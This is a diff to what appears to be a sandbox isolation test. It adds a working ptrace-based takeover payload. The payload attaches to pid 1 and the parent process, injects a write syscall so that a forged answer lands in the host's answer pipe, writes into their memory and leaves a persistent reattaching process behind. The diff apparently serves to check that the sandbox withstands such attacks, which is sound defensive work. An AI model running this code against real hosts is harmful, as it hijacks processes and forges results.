@@ -129,17 +129,55 @@ def func():
     return f"the 32-bit getpid answered {got}"
 '''
 # Everything a node could try to keep a sandbox for itself: attach to pid 1 and the zygote and stay
-# attached, write their memory, write a forged answer into their answer pipe, leave a process behind
-# that keeps trying. The next run on the same executor must still get its own, correct value.
+# attached, write their memory, make an attached process write a forged answer into the pipe the host
+# reads (a write(2) injected with ptrace, on x86-64), leave a process behind that keeps trying. The next
+# run on the same executor must still get its own, correct value.
 TAKEOVER = '''
 def func():
     import ctypes, json, os, struct, time
     libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.restype = ctypes.c_long
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
+    class Regs(ctypes.Structure):
+        _fields_ = [(n, ctypes.c_ulonglong) for n in names.split()]
+    frames = [{"violation": None, "error": None, "exit": None, "stdout_seen": 0, "stdout_cap": 1024,
+               "duration_ms": 1.0}, b"", b'{"ok":true,"error":null}\\n"forged"', {"recycle": None}]
+    blob = b""
+    for frame in frames:
+        data = frame if isinstance(frame, bytes) else json.dumps(frame).encode()
+        blob += struct.pack(">I", len(data)) + data
+    blob += b"\\0" * (-len(blob) % 8)
+    def inject_write(pid):
+        """Make stopped tracee `pid` run write(1, blob) (its fd 1: the pipe the host reads answers from)."""
+        os.waitpid(pid, 0x40000000)  # __WALL: the SIGSTOP of the attach
+        saved, regs = Regs(), Regs()
+        libc.ptrace(12, pid, None, ctypes.byref(saved))  # PTRACE_GETREGS
+        ctypes.pointer(regs)[0] = saved
+        address = (saved.rsp - 16384) & ~7
+        for i in range(0, len(blob), 8):
+            libc.ptrace(5, pid, address + i, int.from_bytes(blob[i:i + 8], "little"))  # PTRACE_POKEDATA
+        regs.rax, regs.rdi, regs.rsi, regs.rdx = 1, 1, address, len(blob)
+        regs.rip, regs.orig_rax = saved.rip - 2, (1 << 64) - 1
+        libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
+        for _ in range(2):  # to the injected call's entry, then its exit
+            libc.ptrace(24, pid, None, None)  # PTRACE_SYSCALL
+            os.waitpid(pid, 0x40000000)
+        libc.ptrace(12, pid, None, ctypes.byref(regs))
+        if (saved.rax >> 63) and saved.rax >= (1 << 64) - 516:  # an interrupted call: let it see EINTR
+            saved.rax = (1 << 64) - 4
+        libc.ptrace(13, pid, None, ctypes.byref(saved))
+        return regs.rax
     done = []
     targets = sorted({1, os.getppid()})
     for pid in targets:
-        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH, never detached
+        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH, never detached
             done.append(f"attached {pid}")
+            if os.uname().machine == "x86_64":
+                try:
+                    done.append(f"{pid} wrote {inject_write(pid)} forged bytes")
+                except OSError as exc:
+                    done.append(f"injection into {pid} failed: {exc}")
         try:
             with open(f"/proc/{pid}/maps") as fh:
                 low = int(next(l for l in fh if l.split()[1].startswith("rw")).split("-")[0], 16)
@@ -151,25 +189,12 @@ def func():
             done.append(f"wrote memory of {pid}")
         except (OSError, StopIteration, ValueError):
             pass
-        frames = [{"violation": None, "error": None, "exit": None, "stdout_seen": 0, "stdout_cap": 1024,
-                   "duration_ms": 1.0}, b"", b'{"ok":true,"error":null}\\n"forged"', {"recycle": None}]
-        blob = b""
-        for frame in frames:
-            data = frame if isinstance(frame, bytes) else json.dumps(frame).encode()
-            blob += struct.pack(">I", len(data)) + data
-        try:
-            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
-            os.write(fd, blob * 4)
-            os.close(fd)
-            done.append(f"forged answers into the pipe of {pid}")
-        except OSError:
-            pass
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
             for _ in range(3000):
                 for pid in targets:
-                    libc.ptrace(16, pid, 0, 0)
+                    libc.ptrace(16, pid, None, None)
                 time.sleep(0.01)
         os._exit(0)
     return done
